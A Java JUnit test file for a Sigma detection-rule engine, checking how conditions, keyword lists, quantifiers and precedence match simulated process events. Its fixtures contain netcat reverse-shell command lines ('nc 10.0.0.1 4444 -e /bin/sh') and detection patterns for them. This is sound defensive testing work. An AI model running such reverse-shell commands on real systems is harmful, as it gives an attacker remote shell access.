package dev.bulwark.sigma;

import static dev.bulwark.sigma.SigmaTestSupport.exec;
import static dev.bulwark.sigma.SigmaTestSupport.fires;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;

import org.junit.jupiter.api.Test;

import dev.bulwark.schemas.SecurityEvent;

/** Every condition form: selections, lists, keywords, quantifiers, negation and precedence. */
class SigmaConditionTest {

    private static final SecurityEvent NC = exec("/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh");
    private static final SecurityEvent CURL = exec("/usr/bin/curl", "curl -s http://example.com");

    @Test
    void mapOfFieldsIsAnd() {
        String detection = """
                selection:
                    Image|endswith: '/nc'
                    CommandLine|contains: ' -e '
                condition: selection
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc -l 4444"))).isFalse();
    }

    @Test
    void listOfMapsIsOr() {
        String detection = """
                selection:
                    - Image|endswith: '/nc'
                      CommandLine|contains: ' -e '
                    - Image|endswith: '/curl'
                condition: selection
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, CURL)).isTrue();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc -l 4444"))).isFalse();
    }

    @Test
    void keywordListSearchesKeywordFieldsAnywhere() {
        String detection = """
                keywords:
                    - '-e /bin/sh'
                    - 'reverse-shell'
                condition: keywords
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, CURL)).isFalse();
        SecurityEvent original = exec("/bin/true", "true");
        original.setOriginal("{\"note\":\"a REVERSE-SHELL attempt\"}");
        assertThat(fires(detection, original)).isTrue();
    }

    @Test
    void keywordListWithAllIsAnd() {
        String detection = """
                keywords:
                    '|all':
                        - '10.0.0.1'
                        - '-e'
                condition: keywords
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc 10.0.0.1 4444"))).isFalse();
    }

    @Test
    void notNegates() {
        String detection = """
                selection:
                    Image|endswith: ['/nc', '/curl']
                filter:
                    CommandLine|contains: 'example.com'
                condition: selection and not filter
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, CURL)).isFalse();
    }

    @Test
    void oneOfPatternNeedsAnyMatchingIdentifier() {
        String detection = """
                selection_nc:
                    Image|endswith: '/nc'
                selection_curl:
                    Image|endswith: '/curl'
                other:
                    Image|endswith: '/true'
                condition: 1 of selection_*
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, CURL)).isTrue();
        assertThat(fires(detection, exec("/bin/true", "true"))).isFalse();
    }

    @Test
    void allOfPatternNeedsEveryMatchingIdentifier() {
        String detection = """
                selection_img:
                    Image|endswith: '/nc'
                selection_flag:
                    CommandLine|contains: ' -e '
                condition: all of selection_*
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc -l"))).isFalse();
    }

    @Test
    void oneOfThemCoversEveryIdentifierExceptUnderscored() {
        String detection = """
                a:
                    Image|endswith: '/nc'
                b:
                    Image|endswith: '/curl'
                _helper:
                    Image|endswith: '/true'
                condition: 1 of them
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, CURL)).isTrue();
        assertThat(fires(detection, exec("/bin/true", "true"))).isFalse();
    }

    @Test
    void allOfThemNeedsEveryIdentifier() {
        String detection = """
                a:
                    Image|endswith: '/nc'
                b:
                    CommandLine|contains: '4444'
                condition: all of them
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc -l 80"))).isFalse();
    }

    @Test
    void andBindsTighterThanOr() {
        // a or b and c == a or (b and c): true for an event with only a.
        String detection = """
                a:
                    Image|endswith: '/curl'
                b:
                    Image|endswith: '/nc'
                c:
                    CommandLine|contains: 'never'
                condition: a or b and c
                """;
        assertThat(fires(detection, CURL)).isTrue();
        assertThat(fires(detection, NC)).isFalse();
        assertThat(fires(detection.replace("a or b and c", "(a or b) and c"), CURL)).isFalse();
    }

    @Test
    void notBindsTighterThanAnd() {
        // not a and b == (not a) and b
        String detection = """
                a:
                    Image|endswith: '/curl'
                b:
                    CommandLine|contains: '4444'
                condition: not a and b
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, CURL)).isFalse();
        assertThat(fires(detection.replace("not a and b", "not (a and b)"), CURL)).isTrue();
    }

    @Test
    void quantifierBindsTighterThanNot() {
        String detection = """
                selection:
                    Image|endswith: '/nc'
                filter_main_local:
                    CommandLine|contains: '127.0.0.1'
                filter_main_lan:
                    CommandLine|contains: '10.0.0.1'
                condition: selection and not 1 of filter_main_*
                """;
        assertThat(fires(detection, NC)).isFalse();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc 203.0.113.5 4444 -e /bin/sh"))).isTrue();
    }

    @Test
    void conditionListIsOr() {
        String detection = """
                a:
                    Image|endswith: '/nc'
                b:
                    Image|endswith: '/curl'
                condition:
                    - a
                    - b
                """;
        assertThat(fires(detection, NC)).isTrue();
        assertThat(fires(detection, CURL)).isTrue();
        assertThat(fires(detection, exec("/bin/true", "true"))).isFalse();
    }

    @Test
    void parserHonoursPrecedenceAndParentheses() throws SigmaRuleException {
        List<String> ids = List.of("a", "b", "c", "sel_1", "sel_2");
        SourceLocation at = new SourceLocation("r.yml", 3, 16);
        assertThat(ConditionParser.parse("a or b and not c", at, ids)).isEqualTo(new ConditionNode.Or(List.of(
                new ConditionNode.Identifier("a"),
                new ConditionNode.And(List.of(new ConditionNode.Identifier("b"),
                        new ConditionNode.Not(new ConditionNode.Identifier("c")))))));
        assertThat(ConditionParser.parse("(a or b) and all of sel_*", at, ids)).isEqualTo(new ConditionNode.And(List.of(
                new ConditionNode.Or(List.of(new ConditionNode.Identifier("a"), new ConditionNode.Identifier("b"))),
                new ConditionNode.Quantifier(0, "sel_*", List.of("sel_1", "sel_2")))));
    }

    @Test
    void parserReportsUnknownIdentifierWithItsPosition() {
        SourceLocation at = new SourceLocation("r.yml", 12, 16);
        assertThatThrownBy(() -> ConditionParser.parse("a and not filtr", at, List.of("a", "filter")))
                .isInstanceOfSatisfying(SigmaRuleException.class, e -> {
                    assertThat(e.reason()).contains("position 11").contains("unknown search identifier 'filtr'");
                    assertThat(e.line()).isEqualTo(12);
                    assertThat(e.column()).isEqualTo(26);
                });
        assertThatThrownBy(() -> ConditionParser.parse("(a or b", at, List.of("a", "b")))
                .hasMessageContaining("unexpected end of the condition; expected ')'");
        assertThatThrownBy(() -> ConditionParser.parse("a b", at, List.of("a", "b")))
                .hasMessageContaining("unexpected 'b'");
        assertThatThrownBy(() -> ConditionParser.parse("1 of sel*", at, List.of("a", "b")))
                .hasMessageContaining("'1 of sel*' covers no search identifier");
        assertThatThrownBy(() -> ConditionParser.parse("a and", at, List.of("a")))
                .hasMessageContaining("unexpected end");
    }
}
